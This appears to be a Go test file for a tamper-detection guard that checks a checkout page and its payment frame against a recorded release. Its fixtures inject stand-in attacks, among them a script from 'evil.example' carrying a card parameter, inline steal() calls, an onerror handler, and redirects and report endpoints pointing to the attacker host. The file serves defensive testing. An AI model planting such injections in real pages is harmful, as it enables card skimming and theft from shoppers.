package guard

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"checkout/internal/metric"
	"checkout/internal/store"
	"checkout/internal/store/memory"
)

const policy = "default-src 'none'; script-src 'self'; report-to csp"

// world has the page and the frame as they are served, and the release that is recorded of them.
type world struct {
	page, frame *served
	store       *memory.Store
	now         time.Time
	log         bytes.Buffer
	guard       Guard
}

// served is one site. A test changes what it serves.
type served struct {
	files   map[string]string // by path
	header  http.Header
	handler func(w http.ResponseWriter, r *http.Request) bool // whether it has responded
	asked   []*http.Request
	url     string
	trusted http.RoundTripper // trusts the certificate that all such servers have
}

func (s *served) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.asked = append(s.asked, r)
	maps.Copy(w.Header(), s.header)
	if s.handler != nil && s.handler(w, r) {
		return
	}
	path := r.URL.Path
	if language := r.URL.Query().Get("language"); language != "" {
		path = "/" + language + ".html"
	}
	if text, found := s.files[path]; found {
		io.WriteString(w, text)
	} else {
		w.WriteHeader(http.StatusForbidden)
	}
}

func serve(t *testing.T, referrer, reports string, files map[string]string) *served {
	s := &served{files: files, header: http.Header{}}
	for name, value := range map[string]string{
		"Content-Security-Policy": policy, "Referrer-Policy": referrer, "Reporting-Endpoints": reports,
		"X-Content-Type-Options": "nosniff", "Permissions-Policy": "camera=(), geolocation=(), microphone=(), usb=()",
		"Strict-Transport-Security": "max-age=31536000",
	} {
		if value != "" {
			s.header.Set(name, value)
		}
	}
	server := httptest.NewTLSServer(s)
	t.Cleanup(server.Close)
	s.url, s.trusted = server.URL, server.Client().Transport
	return s
}

// page is an index.html that loads a script and a style sheet.
func page(script, style string) string {
	return fmt.Sprintf(`<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,x">`+
		`<link rel="stylesheet" href="style.css" integrity=%q><script type="module" src="main.js" integrity=%q></script>`,
		integrity([]byte(style)), integrity([]byte(script)))
}

func file(name, text string) File { return File{name, int64(len(text)), integrity([]byte(text))} }

const mainJS, laterJS, styleCSS, frameJS = "draw()", "seal()", "body{}", "pay()"

// german is a page with its texts.
var german = page(mainJS, styleCSS) + `<script type="application/json" id="texts-de">{}</script>`

func open(t *testing.T) *world {
	t.Helper()
	w := &world{store: memory.NewStore(), now: time.Date(2026, 11, 23, 12, 0, 0, 0, time.UTC)}
	w.page = serve(t, "no-referrer", `csp="/page/reports"`, map[string]string{
		"/": page(mainJS, styleCSS), "/de.html": german, "/main.js": mainJS, "/later.js": laterJS, "/style.css": styleCSS})
	w.frame = serve(t, "strict-origin", "", map[string]string{"/frame.js": frameJS})
	w.frame.files["/"] = `<html data-page="` + w.page.url + `"><script src="frame.js"></script>`
	log := slog.New(slog.NewJSONHandler(&w.log, nil))
	now := func() time.Time { return w.now }
	w.guard = Guard{
		Meter: metric.Meter{Log: log, Stack: "local", Now: now}, Store: w.store,
		HTTP: w.page.trusted,
		Page: Site{w.page.url, policy}, Frame: Site{w.frame.url, policy},
	}
	w.record(t, w.release("v1"))
	return w
}

// release is that of the files of a new world.
func (w *world) release(version string) Release {
	return Release{
		Version: version,
		Page: Built{Index: Index{file("index.html", page(mainJS, styleCSS)), []string{"main.js", "style.css"}},
			Pages:   []File{file("de.html", german)},
			Scripts: []File{file("main.js", mainJS), file("later.js", laterJS)}, Styles: []File{file("style.css", styleCSS)}},
		Frame: Built{Index: Index{file("index.html", `<html data-page="{PAGE_ORIGIN}"><script src="frame.js"></script>`),
			[]string{"frame.js"}}, Scripts: []File{file("frame.js", frameJS)}},
	}
}

// record records a release now.
func (w *world) record(t *testing.T, r Release) {
	t.Helper()
	key := store.Key{Partition: store.PageReleases(1).Partition, Sort: "at/" + w.now.Format(time.RFC3339)}
	if err := w.store.Save(t.Context(), w.now, store.Encode(key, 0, r)); err != nil {
		t.Fatal(err)
	}
}

// check returns the differences that are logged, each as "site what path wanted > found", and the metrics.
func (w *world) check(t *testing.T) (found []string, measured string, err error) {
	t.Helper()
	w.log.Reset()
	err = w.guard.Check(t.Context())
	for line := range strings.Lines(w.log.String()) {
		var l struct {
			Msg, Site, What, Path, Wanted, Found string
			Changed                              *int `json:"page_changed"`
			Headers                              *int `json:"headers_changed"`
		}
		if err := json.Unmarshal([]byte(line), &l); err != nil {
			t.Fatal(err)
		}
		if l.Changed != nil {
			measured = fmt.Sprint(*l.Changed, " ", *l.Headers)
		} else if l.What != "" {
			found = append(found, strings.TrimSpace(l.Site+" "+l.What+" "+l.Path+" "+l.Wanted+" > "+l.Found))
		}
	}
	return found, measured, err
}

func TestNothingDiffersFromTheRelease(t *testing.T) {
	w := open(t)
	found, measured, err := w.check(t)
	if err != nil || len(found) > 0 || measured != "0 0" {
		t.Errorf("%q, %s, %v", found, measured, err)
	}
	for _, r := range append(w.page.asked, w.frame.asked...) {
		if !strings.HasPrefix(r.UserAgent(), "Mozilla/5.0 (") || strings.Contains(r.UserAgent(), "Go-http") {
			t.Errorf("%s was requested by %s", r.URL, r.UserAgent())
		}
	}
	if len(w.page.asked) != 5 || len(w.frame.asked) != 2 {
		t.Errorf("%d and %d requests", len(w.page.asked), len(w.frame.asked))
	}
}

// Each change is found, named and counted, and the log has no body.
func TestEachChangeIsFound(t *testing.T) {
	hash := func(text string) string { return integrity([]byte(text)) }
	whole := func(text string) string {
		return "page content /index.html " + hash(page(mainJS, styleCSS)) + " > " + hash(text)
	}
	adds := func(text string) func(w *world) { return func(w *world) { w.page.files["/"] += text } }
	with := func(text string) string { return whole(page(mainJS, styleCSS) + text) }
	endless := func(w http.ResponseWriter, r *http.Request) bool {
		for r.RequestURI == "/later.js" || r.RequestURI == "/" {
			if _, err := w.Write(bytes.Repeat([]byte("x"), 1<<16)); err != nil {
				return true
			}
		}
		return false
	}
	header := func(name, value string) func(w *world) {
		return func(w *world) { w.page.header[name] = strings.Fields(value) }
	}
	const weak = "default-src 'none'; report-to csp"
	for name, c := range map[string]struct {
		change   func(w *world)
		want     []string
		measured string
	}{
		"one byte of a script": {func(w *world) { w.page.files["/later.js"] = "seal();" },
			[]string{"page content /later.js " + hash(laterJS) + " > more than its 6 bytes"}, "1 0"},
		"another byte of a script": {func(w *world) { w.page.files["/later.js"] = "seaL()" },
			[]string{"page content /later.js " + hash(laterJS) + " > " + hash("seaL()")}, "1 0"},
		"a script of the frame": {func(w *world) { w.frame.files["/frame.js"] = "lay()" },
			[]string{"frame content /frame.js " + hash(frameJS) + " > " + hash("lay()")}, "1 0"},
		"a style sheet": {func(w *world) { w.page.files["/style.css"] = "body{" },
			[]string{"page content /style.css " + hash(styleCSS) + " > " + hash("body{")}, "1 0"},
		"a script that is gone": {func(w *world) { delete(w.page.files, "/main.js") },
			[]string{"page missing /main.js " + hash(mainJS) + " > 403"}, "1 0"},
		"a script more": {adds(`<script async SRC='https://evil.example/x.js?card=1'></script>`),
			[]string{with(`<script async SRC='https://evil.example/x.js?card=1'></script>`),
				"page unknown script /index.html  > https://evil.example/x.js"}, "2 0"},
		"a script in the page": {adds("<ScRipt>steal()</script>"), []string{with("<ScRipt>steal()</script>"),
			"page script in the page /index.html  > " + hash("steal()")}, "2 0"},
		"a handler": {adds("<img src=x onerror=steal()>"), []string{with("<img src=x onerror=steal()>"),
			"page handler in the page /index.html  > onerror"}, "2 0"},
		"a frame, a base, a form": {adds(`<iframe src="//evil.example/">` + `<base href="/x/"><form action="/y">`),
			[]string{with(`<iframe src="//evil.example/"><base href="/x/"><form action="/y">`),
				"page iframe in the page /index.html  > //evil.example/", "page base in the page /index.html  >",
				"page form in the page /index.html  >"}, "4 0"},
		"a meta": {adds(`<meta http-equiv="refresh" content="0;url=//evil.example">`),
			[]string{with(`<meta http-equiv="refresh" content="0;url=//evil.example">`),
				"page meta in the page /index.html  > refresh"}, "2 0"},
		"a script in the page of a language": {func(w *world) { w.page.files["/de.html"] += "<script>steal()</script>" },
			[]string{"page content /de.html " + hash(german) + " > " + hash(german+"<script>steal()</script>"),
				"page script in the page /de.html  > " + hash("steal()")}, "2 0"},
		"texts": {func(w *world) { w.page.files["/de.html"] = strings.Replace(german, "{}", "{1}", 1) },
			[]string{"page content /de.html " + hash(german) + " > " + hash(strings.Replace(german, "{}", "{1}", 1))}, "1 0"},
		"a page of a language that is gone": {func(w *world) { delete(w.page.files, "/de.html") },
			[]string{"page missing /de.html " + hash(german) + " > 403"}, "1 0"},
		"a header of the page of a language": {func(w *world) {
			w.page.handler = func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.RawQuery != "" {
					w.Header().Set("Refresh", "0;url=//evil.example")
				}
				return false
			}
		}, []string{"page header Refresh  > 0;url=//evil.example"}, "0 1"},
		"a space": {adds(" "), []string{with(" ")}, "1 0"},
		"integrity": {func(w *world) { w.page.files["/"] = page("other()", styleCSS) }, []string{
			whole(page("other()", styleCSS)), "page integrity /main.js " + hash(mainJS) + " > " + hash("other()")}, "2 0"},
		"nothing is loaded": {func(w *world) { w.page.files["/"] = "<!doctype html>" }, []string{whole("<!doctype html>"),
			"page not loaded /main.js " + hash(mainJS) + " >", "page not loaded /style.css " + hash(styleCSS) + " >"}, "3 0"},
		"a redirect": {func(w *world) {
			w.page.handler = func(w http.ResponseWriter, r *http.Request) bool {
				if r.RequestURI == "/" {
					http.Redirect(w, r, "https://evil.example/?"+strings.Repeat("x", 10), http.StatusFound)
				}
				return r.RequestURI == "/"
			}
		}, []string{"page missing /index.html " + hash(page(mainJS, styleCSS)) + " > 302 evil.example"}, "1 0"},
		"endless bodies": {func(w *world) { w.page.handler = endless }, []string{
			"page content /index.html " + hash(page(mainJS, styleCSS)) + " > more than 262144 bytes",
			"page not loaded /main.js " + hash(mainJS) + " >", "page not loaded /style.css " + hash(styleCSS) + " >",
			"page content /later.js " + hash(laterJS) + " > more than its 6 bytes"}, "4 0"},
		"a policy without script-src": {func(w *world) { w.page.header.Set("Content-Security-Policy", weak) },
			[]string{"page header Content-Security-Policy " + policy + " > " + weak}, "0 1"},
		"a second policy": {func(w *world) { w.page.header.Add("Content-Security-Policy", weak) },
			[]string{"page header Content-Security-Policy " + policy + " > " + policy + ", " + weak}, "0 1"},
		"no policy of the frame": {func(w *world) { w.frame.header.Del("Content-Security-Policy") },
			[]string{"frame header Content-Security-Policy " + policy + " >"}, "0 1"},
		"no transport security": {header("Strict-Transport-Security", ""),
			[]string{"page header Strict-Transport-Security max-age=31536000 >"}, "0 1"},
		"a header more": {header("Refresh", "0;url=//evil.example"),
			[]string{"page header Refresh  > 0;url=//evil.example"}, "0 1"},
		"reports go elsewhere": {header("Reporting-Endpoints", `csp="https://evil.example"`),
			[]string{`page header Reporting-Endpoints csp="/page/reports" > csp="https://evil.example"`}, "0 1"},
	} {
		t.Run(name, func(t *testing.T) {
			w := open(t)
			c.change(w)
			found, measured, err := w.check(t)
			if err != nil || strings.Join(found, "\n") != strings.Join(c.want, "\n") || measured != c.measured {
				t.Errorf("%s, %v:\n%s\nwant %s:\n%s", measured, err, strings.Join(found, "\n"), c.measured,
					strings.Join(c.want, "\n"))
			}
			for _, body := range []string{"steal(", "seaL(", "card=1"} {
				if strings.Contains(w.log.String(), body) {
					t.Errorf("the log has %s: %s", body, w.log.String())
				}
			}
		})
	}
}

// A release is what the recorded one is: another record makes the same page a changed one.
func TestAnotherRelease(t *testing.T) {
	w := open(t)
	w.now = w.now.Add(time.Hour)
	r := w.release("v2")
	r.Page.Scripts[1] = file("later.js", "seal(2)")
	w.record(t, r)
	found, measured, err := w.check(t)
	if err != nil || measured != "1 0" || !strings.Contains(strings.Join(found, ""), "content /later.js") {
		t.Errorf("%q, %s, %v", found, measured, err)
	}
}

// While a release is uploaded both it and the one before are served, each site by itself, for a quarter of an hour.
func TestTheReleaseBefore(t *testing.T) {
	w := open(t)
	w.now = w.now.Add(time.Hour)
	next := w.release("v2")
	next.Page.Index.File = file("index.html", page("draw(2)", styleCSS))
	next.Page.Scripts[0] = file("main.js", "draw(2)")
	w.record(t, next)
	for _, c := range []struct {
		after       time.Duration
		script      string
		measured    string
		description string
	}{
		{0, mainJS, "0 0", "the one before, at once"},
		{14 * time.Minute, mainJS, "0 0", "the one before, a little later"},
		{14 * time.Minute, "draw(2)", "0 0", "the new one"},
		{15 * time.Minute, "draw(2)", "0 0", "the new one, later"},
		{15 * time.Minute, mainJS, "3 0", "the one before, too late"},
		{0, "draw(3)", "3 0", "neither"},
	} {
		start := w.now
		w.now = w.now.Add(c.after)
		w.page.files["/"], w.page.files["/main.js"] = page(c.script, styleCSS), c.script
		if found, measured, err := w.check(t); err != nil || measured != c.measured {
			t.Errorf("%s: %q, %s, %v", c.description, found, measured, err)
		}
		w.now = start
	}
}

// The pages of a release come one after the other, and in the place of one that was not there before comes index.html.
func TestPagesComeOneByOne(t *testing.T) {
	w := open(t)
	first := w.release("v0")
	first.Page.Pages = nil
	w.now = w.now.Add(time.Hour)
	w.record(t, first)
	w.now = w.now.Add(time.Hour)
	w.record(t, w.release("v1"))
	w.page.files["/de.html"] = page(mainJS, styleCSS)
	if found, measured, err := w.check(t); err != nil || measured != "0 0" {
		t.Errorf("at once: %q, %s, %v", found, measured, err)
	}
	w.now = w.now.Add(15 * time.Minute)
	if found, measured, err := w.check(t); err != nil || measured != "1 0" {
		t.Errorf("too late: %q, %s, %v", found, measured, err)
	}
}

// A release that is recorded and uploaded while the page is fetched is no difference.
func TestAReleaseInBetween(t *testing.T) {
	w := open(t)
	w.page.handler = func(http.ResponseWriter, *http.Request) bool {
		w.page.handler = nil
		w.now = w.now.Add(time.Hour)
		next := w.release("v2")
		next.Page.Index.File = file("index.html", page(mainJS, styleCSS)+" ")
		w.record(t, next)
		w.page.files["/"] += " "
		return false
	}
	if found, measured, err := w.check(t); err != nil || measured != "0 0" {
		t.Errorf("%q, %s, %v", found, measured, err)
	}
}

// What can't be fetched says nothing about the page, unless something differs beside it.
func TestWhatCanNotBeFetchedIsNoChange(t *testing.T) {
	fails := func(path string, status int) func(w *world) {
		return func(w *world) {
			w.page.handler = func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.Path == path {
					w.WriteHeader(status)
				}
				return r.URL.Path == path
			}
		}
	}
	for name, change := range map[string]func(w *world){
		"page can't be fetched: 403":     fails("/", 403), // as by a firewall
		"page can't be fetched: 404":     fails("/", 404),
		"/ can't be fetched: 503":        fails("/", 503),
		"/main.js can't be fetched: 503": fails("/main.js", 503),
		"/main.js can't be fetched: 429": fails("/main.js", 429),
		"/style.css can't be fetched": func(w *world) {
			w.page.handler = func(w http.ResponseWriter, r *http.Request) bool {
				if r.URL.Path == "/style.css" {
					panic(http.ErrAbortHandler)
				}
				return false
			}
		},
	} {
		t.Run(name, func(t *testing.T) {
			w := open(t)
			change(w)
			found, measured, err := w.check(t)
			if err == nil || !strings.Contains(err.Error(), name) || measured != "" || len(found) > 0 {
				t.Errorf("%q, %s, %v", found, measured, err)
			}
		})
	}
	w := open(t)
	w.guard.Store = memory.NewStore()
	if found, measured, err := w.check(t); err != nil || measured != "" || len(found) > 0 ||
		!strings.Contains(w.log.String(), `"level":"WARN","msg":"no release of the page is recorded`) {
		t.Errorf("without a release: %q, %s, %v: %s", found, measured, err, w.log.String())
	}
	w = open(t)
	fails("/main.js", 503)(w)
	w.page.files["/later.js"] = ""
	if found, measured, err := w.check(t); err != nil || measured != "1 0" || len(found) != 1 ||
		!strings.Contains(w.log.String(), "main.js can't be fetched: 503") {
		t.Errorf("%q, %s, %v", found, measured, err)
	}
}
